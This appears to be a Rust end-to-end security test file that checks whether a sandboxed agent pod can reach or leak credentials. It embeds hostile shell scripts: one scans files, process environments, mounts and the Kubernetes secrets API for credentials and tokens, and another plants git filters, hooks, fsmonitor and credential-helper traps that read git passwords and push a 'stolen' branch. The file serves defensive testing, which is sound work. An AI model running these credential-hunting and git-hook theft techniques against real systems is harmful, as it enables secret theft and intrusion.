//! What the agent can reach: the model's key and the checkout, nothing else of ours.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use opentiger::crd::TaskPhase;

use super::node;
use super::node::{DATABASE_CANARY, GIT_CANARY, MODEL_CANARY, Node, RELEASE};
use super::space::{ATTEMPT, Database, Space};

/// Looks everywhere for credentials and says what it found, then does its work.
const SNOOP: &str = r#"
echo "probe environment"; env
for place in /credentials /credentials/git /repo /var/run/secrets /run/secrets; do
  if cat "$place" 2>/dev/null || ls -A "$place" 2>/dev/null | grep .; then echo "probe $place: FOUND"; else echo "probe $place: nothing"; fi
done
tr '\0' '\n' </proc/1/environ | grep . && echo "probe parent: FOUND" || echo "probe parent: nothing"
grep -rls 'canary-gi[t]' / --exclude-dir=proc --exclude-dir=sys && echo "probe files: FOUND" || echo "probe files: nothing"
grep -ls 'canary-gi[t]\|canary-databas[e]' /proc/[0-9]*/environ /proc/[0-9]*/cmdline && echo "probe processes: FOUND" || echo "probe processes: nothing"
grep -rlIsE 'eyJ[A-Za-z0-9_-]{16,}[.]eyJ' / --exclude-dir=proc --exclude-dir=sys && echo "probe tokens: FOUND" || echo "probe tokens: nothing"
cut -d ' ' -f 5 /proc/self/mountinfo | grep -vE '^/$|^/(proc|sys|dev)(/|$)|^/etc/(hosts|hostname|resolv.conf)$|^/(opentiger|workspace|exchange|inputs|tmp|home/agent)$' && echo "probe mounts: FOUND" || echo "probe mounts: nothing"
git remote -v | grep . && echo "probe remote: FOUND" || echo "probe remote: nothing"
git config --show-origin --get-regexp '^(credential|http|url)[.]' && echo "probe helpers: FOUND" || echo "probe helpers: nothing"
ls -d ~/.git-credentials ~/.netrc ~/.ssh ~/.config/git /etc/gitconfig 2>/dev/null && echo "probe logins: FOUND" || echo "probe logins: nothing"
export GIT_TERMINAL_PROMPT=0
timeout 10 git push "$URL" HEAD:refs/heads/stolen 2>&1 && echo "probe push: PUSHED" || echo "probe push: refused"
api=https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/api/v1/namespaces/e2e-secrets/secrets/git-credentials
timeout 10 git -c http.sslVerify=false ls-remote "$api" 2>&1 && echo "probe api: ANSWERED" || echo "probe api: refused"
touch /somewhere 2>/dev/null && echo "probe root: WRITABLE" || echo "probe root: read-only"
echo 'def nothing(): pass' >>src/calc.py
"#;

#[tokio::test]
async fn the_agent_finds_no_credentials_and_no_secret_is_shown_anywhere() {
    let space = Space::armed(node(), "e2e-secrets").await;
    let url = format!("http://git.{}.svc.cluster.local/calculator.git", super::node::SERVICES);
    // The end is delayed so that the Pod is looked at while it lives.
    let script = format!("URL={url}\n{SNOOP}\nsleep 3");
    space.command_pool("Worker", "runner", &script);
    space.task("snoop", "  allowedPaths: [src/**]");
    let pod = space.agent_running("snoop").await;
    let mut shown = serde_json::to_string(&pod).expect("JSON");
    let status = space.done("snoop", ATTEMPT).await;
    assert_eq!(status.phase, TaskPhase::Done, "what needs credentials works all the while");
    space.no_pod("snoop", ATTEMPT).await;

    let run = space.runs("snoop").await.remove(0);
    let said = space.log(&run, "agent").await.expect("a log");
    for answer in [
        "probe /credentials: nothing",
        "probe /credentials/git: nothing",
        "probe /repo: nothing",
        "probe /var/run/secrets: nothing",
        "probe /run/secrets: nothing",
        "probe parent: nothing",
        "probe files: nothing",
        "probe processes: nothing",
        "probe tokens: nothing",
        "probe mounts: nothing",
        "probe remote: nothing",
        "probe helpers: nothing",
        "probe logins: nothing",
        "probe push: refused",
        "probe api: refused",
        "probe root: read-only",
    ] {
        assert!(said.contains(answer), "{answer}:\n{said}");
    }
    assert!(
        said.contains("MODEL_API_KEY=***"),
        "the model's key is there, and hidden in what is shown:\n{said}"
    );
    assert!(!space.node.clone_repository().branches().contains(&"stolen".to_string()));

    shown.push_str(&space.objects_text().await);
    shown.push_str(&Database::connect(space.node).await.everything().await);
    shown.push_str(&space.node.release_logs());
    assert!(shown.contains("probe push: refused"), "the rows of run_logs are among what is searched");
    let api_key = api_key(space.node);
    for canary in [GIT_CANARY, MODEL_CANARY, DATABASE_CANARY, &api_key] {
        assert!(!shown.contains(canary), "{canary} is shown: {}", around(&shown, canary));
    }
}

/// The key of the HTTP API, which the chart has made.
fn api_key(node: &Node) -> String {
    let get = ["-n", RELEASE, "get", "secret", "opentiger-api-keys", "-o", "jsonpath={.data.keys}"];
    let keys = STANDARD.decode(node.kubectl(&get).trim()).expect("base64");
    let key = String::from_utf8(keys).expect("text").lines().next().unwrap_or_default().to_string();
    assert!(key.len() >= 16, "a key to look for");
    key
}

/// The text around a finding.
fn around<'a>(text: &'a str, word: &str) -> &'a str {
    let at = text.find(word).unwrap_or_default();
    text.get(at.saturating_sub(200)..(at + 100).min(text.len())).unwrap_or_default()
}

/// What the attacker's program does wherever git runs it: with the credentials in reach it pushes.
const STEAL: &str = r#"
set -e
cat >/workspace/repo/src/steal.sh <<'END'
#!/bin/sh
[ -z "$CAUGHT" ] || exit 1
export CAUGHT=1
u=$(cat /credentials/git/username) p=$(cat /credentials/git/password)
unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE GIT_ALLOW_PROTOCOL
git -C /workspace/repo push "http://$u:$p@HOST/calculator.git" "HEAD:refs/heads/stolen-by-$1" >/dev/null 2>&1
cat
END
chmod +x src/steal.sh
steal=/workspace/repo/src/steal.sh
traps() {
  git -C "$1" config filter.steal.clean "$steal filter-$2"
  git -C "$1" config filter.steal.smudge "$steal smudge-$2"
  git -C "$1" config filter.steal.required true
  git -C "$1" config core.fsmonitor "$steal fsmonitor-$2"
  git -C "$1" config core.hooksPath "$1/.git/hooks"
  git -C "$1" config diff.steal.textconv "$steal textconv-$2"
  git -C "$1" config core.sshCommand "$steal ssh-$2"
  git -C "$1" config credential.helper "!$steal credential-$2"
  mkdir -p "$1/.git/hooks"
  for hook in pre-commit commit-msg pre-push post-commit post-index-change reference-transaction; do
    printf '#!/bin/sh\n%s hook-%s\n' "$steal" "$2" >"$1/.git/hooks/$hook"; chmod +x "$1/.git/hooks/$hook"
  done
}
echo '# changed' >>src/calc.py
case $OPENTIGER_RUN in
  nested-*)
    git init -q src/inner
    traps /workspace/repo/src/inner nested
    echo '* filter=steal diff=steal' >src/inner/.gitattributes
    echo text >src/inner/file ;;
  outer-*)
    traps /workspace/repo outer
    echo '* filter=steal diff=steal' >src/.gitattributes
    mkdir -p .git/info; echo '* filter=steal diff=steal' >.git/info/attributes ;;
esac
echo "traps are set"
"#;

#[tokio::test]
async fn a_hostile_workspace_ends_safely() {
    let space = Space::armed(node(), "e2e-hostile").await;
    let host = format!("git.{}.svc.cluster.local", super::node::SERVICES);
    space.command_pool("Worker", "runner", &STEAL.replace("HOST", &host));
    space.task("nested", "  allowedPaths: [src/**]\n  targetArea: nested");
    space.task("outer", "  allowedPaths: [src/**]\n  targetArea: outer");

    let refused = space.until("nested", "refused", ATTEMPT, |s| s.phase == TaskPhase::Blocked).await;
    let failure = refused.last_failure.expect("a failure");
    assert_eq!(failure.code, "policy_violation", "{}", failure.summary);

    let status = space.done("outer", ATTEMPT).await;
    let clone = space.node.clone_repository();
    let branches = clone.branches();
    assert!(branches.contains(&status.branch), "{branches:?}");
    assert!(!branches.iter().any(|branch| branch.starts_with("stolen")), "{branches:?}");
    let changed =
        clone.git(&["diff", "--name-only", "refs/heads/main", &format!("refs/heads/{}", status.branch)]);
    assert_eq!(changed.lines().collect::<Vec<_>>(), ["src/.gitattributes", "src/calc.py", "src/steal.sh"]);
    let pushed = clone.git(&["show", &format!("refs/heads/{}:src/calc.py", status.branch)]);
    assert!(pushed.ends_with("# changed"), "the file as it was written:\n{pushed}");
    for (task, run) in [("nested", 0), ("outer", 0)] {
        let said = space.log(&space.runs(task).await[run], "agent").await.unwrap_or_default();
        assert!(said.contains("traps are set"), "{task}:\n{said}");
    }
}
